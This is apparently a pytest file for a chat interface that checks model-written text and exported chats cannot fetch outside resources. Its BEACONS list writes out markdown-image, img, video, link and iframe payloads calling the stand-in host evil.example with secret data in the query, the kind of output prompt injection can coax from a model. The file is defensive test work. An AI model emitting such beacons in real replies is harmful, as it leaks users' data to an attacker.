"""What injected words can make a model send outside: nothing leaves without a click, and a link says where it leads."""

from datetime import UTC, datetime
from typing import Final

import pytest
from markdown_it import MarkdownIt

from nova_ui.chat.export import ExportFormat, write_chat
from nova_ui.components.model_text import render
from nova_ui.domain.assistant import AssistantKey
from nova_ui.domain.chat import Chat, ChatId, Step, TextMessage, TurnId, TurnRecord, TurnState
from nova_ui.domain.identity import IdentityId

NOW: Final = datetime(2026, 3, 2, tzinfo=UTC)
TAGS: Final = ("<img", "<video", "<link", "<iframe", "<!--")
BEACONS: Final = [
    "![x](https://evil.example/p.png?d=secret)",
    "\\![x](https://evil.example/p.png?d=secret)",
    "\\\\![x](https://evil.example/p.png?d=secret)",
    "![x][y]\n\n[y]: https://evil.example/p.png",
    "[![x](https://evil.example/p.png)](https://evil.example/)",
    "<img src='https://evil.example/p.png'>",
    "a <video src=https://evil.example/p.mp4 autoplay>",
    "<!-- --><link rel=stylesheet href=https://evil.example/s.css>",
    "<iframe src=https://evil.example/></iframe>",
]


@pytest.mark.parametrize("words", BEACONS)
def test_h2_a_downloaded_chat_fetches_nothing_wherever_it_is_opened(words: str) -> None:
    """Abuse cases 59 and 60."""
    exported = write_chat(a_chat(words), "Helper", ExportFormat.MARKDOWN)

    shown = MarkdownIt("commonmark", {"html": True}).render(exported.content)

    assert not [tag for tag in TAGS if tag in shown]
    assert "evil.example" in shown, "what was said is still told"


@pytest.mark.parametrize("words", BEACONS)
def test_h2_what_a_model_was_made_to_write_fetches_nothing_on_the_page(words: str) -> None:
    """Abuse case 59."""
    shown = render(words)

    assert not [tag for tag in TAGS if tag in shown]


def test_h2_a_link_with_data_in_it_shows_where_it_leads() -> None:
    """Abuse case 59."""
    assert "(https://evil.example/?d=secret)" in render("[Sign in again](https://evil.example/?d=secret)")


def a_chat(words: str) -> Chat:
    turn = TurnRecord(
        id=TurnId("trn_1"),
        number=1,
        message=TextMessage(text=words),
        state=TurnState.DONE,
        started_at=NOW,
        finished_at=NOW,
        steps=(Step(text=words),),
    )
    return Chat(
        id=ChatId("cht_1"),
        owner_id=IdentityId("idn_1"),
        assistant_key=AssistantKey("helper"),
        title=words,
        created_at=NOW,
        updated_at=NOW,
        turns=(turn,),
    )
